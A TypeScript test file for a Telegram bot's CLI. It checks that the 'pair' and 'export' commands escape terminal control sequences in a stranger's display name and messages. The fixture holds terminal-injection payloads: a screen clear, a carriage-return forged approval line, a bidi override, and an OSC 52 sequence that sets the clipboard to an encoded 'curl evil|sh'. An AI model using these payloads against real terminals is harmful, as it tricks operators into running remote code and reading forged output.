/**
 * What the CLI prints of what strangers chose, into the operator's terminal.
 * A Telegram stranger picks a display name (and writes messages) holding
 * terminal control sequences: ESC sequences that retitle the window, clear
 * the screen or set the clipboard (OSC 52) with a command to paste, a
 * carriage return that overprints the line with a forged one, a bidi override
 * and 8-bit CSI (C1) that JSON leaves as it is. The operator approves them with
 * `steerbot pair` and exports their conversation with `steerbot export`: the
 * output shows those characters as escapes and acts on none of them.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { messageUpdate, type TgUser } from '../../testing/fakes/telegram-server.js';
import { waitFor } from '../../testing/wait.js';
import { runCli } from '../helpers/cli.js';
import { redisUrl } from '../helpers/redis.js';
import { type AccessSystem, startAccessSystem } from '../people/access-system.js';

const PAIR_CODE_RE = /pairing code is ([A-Z2-9]{4}-[A-Z2-9]{4})/;
/** Clipboard (OSC 52: `curl evil|sh`) and clear screen, then a carriage return, a forged line and a bidi override: 61 characters (a pairing keeps 64). */
const FIRST_NAME = 'M\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2J';
const LAST_NAME = '\rApproved Alice (telegram:42).\u202e';
const MALLORY: TgUser = { id: 1666, is_bot: false, first_name: FIRST_NAME, last_name: LAST_NAME };
/** ESC, 8-bit CSI (U+009B) clearing the screen, a bidi override, DEL. */
const MESSAGE = 'hi \u001b[31mred\u009b2J\u202eesrever\u007f';
/** What a terminal acts on: control characters, line separators, bidirectional formatting. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is what this pattern is for.
const ACTS_ON = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

let sys: AccessSystem | undefined;
afterEach(async () => {
  await sys?.close();
  sys = undefined;
});

const cli = (s: AccessSystem, args: string[]) => runCli(args, { REDIS_URL: redisUrl(), STEERBOT_PREFIX: s.h.prefix });
const repliesTo = (s: AccessSystem, n: number) =>
  waitFor(() => s.tg.sent.filter((m) => m.chatId === MALLORY.id).length >= n && s.tg.sent.filter((m) => m.chatId === MALLORY.id), 10_000, `${n} replies`);

describe('the CLI shows what strangers chose as text', () => {
  it('pair prints a stranger’s display name on one line, its control sequences escaped', async () => {
    sys = await startAccessSystem({ channels: { telegram: { policy: 'pairing' } } });
    expect(await sys.post(messageUpdate({ from: MALLORY, text: 'hello' }))).toBe(200);
    const code = PAIR_CODE_RE.exec((await repliesTo(sys, 1))[0]!.text)?.[1];
    expect(code).toBeDefined();

    const run = await cli(sys, ['pair', code!]);
    expect([run.code, run.err]).toEqual([0, '']);
    expect(run.out.endsWith('.\n')).toBe(true);
    const line = run.out.slice(0, -1);
    expect(line).not.toMatch(ACTS_ON);
    expect(line).toBe(
      'Approved M\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007\\u001b[2J \\u000dApproved Alice (telegram:42).\\u202e (telegram:1666); identity telegram:1666.',
    );
    expect((await sys.store.approved('telegram', '1666')).approved).toBe(true);
  }, 60_000);

  it('export writes a stranger’s message with its control characters as JSON escapes: the same document, nothing a terminal acts on', async () => {
    sys = await startAccessSystem({ channels: { telegram: { policy: 'open' } } });
    expect(await sys.post(messageUpdate({ from: MALLORY, text: MESSAGE }))).toBe(200);
    await repliesTo(sys, 1);

    const run = await cli(sys, ['export', '--conversation', 'telegram:1666']);
    expect([run.code, run.err]).toEqual([0, 'steerbot: exported conversation telegram:1666\n']);
    expect(run.out).not.toMatch(ACTS_ON);
    const doc = JSON.parse(run.out) as { record: Array<{ kind: string; text?: string; sender?: { name?: string } }> };
    const received = doc.record.find((e) => e.kind === 'message.received');
    expect(received?.text).toBe(MESSAGE);
    expect(received?.sender?.name).toBe(`${FIRST_NAME} ${LAST_NAME}`);
  }, 60_000);
});
